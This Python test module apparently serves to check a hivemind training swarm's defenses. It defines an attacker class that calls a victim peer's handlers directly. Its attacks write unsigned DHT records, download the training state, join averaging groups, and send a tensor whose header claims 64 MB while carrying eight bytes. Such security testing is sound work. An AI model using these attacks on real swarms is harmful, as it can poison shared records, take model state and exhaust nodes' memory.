"""An attacker: plain hivemind, an address, and what everybody can read about how a swarm works.

Nothing of trahiv is imported: what is tested is not used to test it.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from typing import Any

from hivemind.dht.routing import DHTID
from hivemind.p2p import P2P, P2PDaemonError, P2PHandlerError, PeerID
from hivemind.proto import averaging_pb2, dht_pb2, runtime_pb2
from hivemind.utils import MSGPackSerializer, get_dht_time

ATTACK_S = 40.0
DHT = "CorrectedProtocol"


class Attacker:
    """Calls a victim's handlers with whatever it likes, after a certificate."""

    def __init__(self, p2p: P2P, victim: PeerID, run: str, certificate: bytes) -> None:
        self.p2p, self.victim, self.run, self.certificate = p2p, victim, run, certificate

    async def call(self, handler: str, request: Any) -> bytes:
        """Call a handler that takes one message."""
        content = self.certificate + request.SerializeToString()
        return bytes(await self.p2p._client.call_unary_handler(self.victim, handler, content))

    async def stream(self, handler: str, request: Any) -> bytes:
        """Open a stream, send a message, and return the first that comes back."""
        _, reader, writer = await self.p2p._client.stream_open(self.victim, [handler])
        try:
            writer.write(self.certificate)
            message = request.SerializeToString()
            writer.write(P2P.MESSAGE_MARKER + len(message).to_bytes(8, "big") + message)
            await P2P.send_protobuf(P2P.END_OF_STREAM, writer)
            kind = await reader.readexactly(1)
            content = await reader.readexactly(int.from_bytes(await reader.readexactly(8), "big"))
        finally:
            writer.close()
        if kind == P2P.ERROR_MARKER:
            raise P2PHandlerError(content.decode(errors="replace"))
        return content

    async def make(self, attack: str) -> None:
        """Make an attack; an error says that it came to nothing."""
        grads = f"{self.run}_grad_averager::ExactGradientAverager"
        state = f"{self.run}_state_averager::ExactStateAverager"
        key, until = bytes(DHTID.generate(source=f"{self.run}_progress").to_bytes()), get_dht_time() + 60
        anybody = dht_pb2.NodeInfo()
        match attack:
            case "ping":
                await self.call(f"{DHT}.rpc_ping", dht_pb2.PingRequest())
            case "read_records":
                await self.call(f"{DHT}.rpc_find", dht_pb2.FindRequest(keys=[key], peer=anybody))
            case "write_a_record":  # that nobody has signed
                place, value = map(MSGPackSerializer.dumps, (b"mine", 1))
                record = {"keys": [key], "subkeys": [place], "values": [value], "expiration_time": [until]}
                request = dht_pb2.StoreRequest(**record, in_cache=[False], peer=anybody)
                answer = await self.call(f"{DHT}.rpc_store", request)
                if not any(dht_pb2.StoreResponse.FromString(answer).store_ok):
                    raise P2PHandlerError("the record was not kept")
            case "take_the_state":
                answer = await self.call(f"{state}.rpc_offer_state", _data(b"", [0, b""], 0))
                offer = averaging_pb2.DownloadData.FromString(answer)
                _, digest = MSGPackSerializer.loads(offer.metadata)
                await self.stream(f"{state}.rpc_send_state", _data(digest, 0, 1))
            case "join_a_group":
                wish = averaging_pb2.JoinRequest(schema_hash=b"x", expiration=until)
                await self.stream(f"{grads}.rpc_join_group", wish)
            case "send_a_part":  # eight bytes that say that they are 64 MB
                bomb = runtime_pb2.Tensor(size=[1], dtype="(2000000,)f8", buffer=bytes(8))
                about = {"code": averaging_pb2.PART_FOR_AVERAGING, "group_id": b"x", "weight": 1e6}
                part = averaging_pb2.AveragingData(**about, tensor_part=bomb)
                await self.stream(f"{grads}.rpc_aggregate_part", part)


def _data(*content: object) -> averaging_pb2.DownloadData:
    return averaging_pb2.DownloadData(metadata=MSGPackSerializer.dumps(list(content)))


async def attack(
    address: str, run: str, key_file: str, certificate: bytes, names: list[str]
) -> AsyncIterator[tuple[str, str]]:
    """Make attacks, one after the other; yield what came of each: `answered`, or the error.

    Args:
        address: of the victim.
        run: its run.
        key_file: the attacker's identity.
        certificate: see `Attacker`.
        names: see `Attacker.make`.
    """
    p2p = await P2P.create(
        initial_peers=[address], dht_mode="client", no_listen=True, identity_path=key_file, auto_nat=False
    )
    attacker = Attacker(p2p, PeerID.from_base58(address.rpartition("/p2p/")[2]), run, certificate)
    try:
        for name in names:
            try:
                async with asyncio.timeout(ATTACK_S):
                    await attacker.make(name)
                yield name, "answered"
            except (P2PHandlerError, P2PDaemonError, TimeoutError, OSError, EOFError) as error:
                yield name, f"{type(error).__name__}: {error}"
    finally:
        await p2p.shutdown()
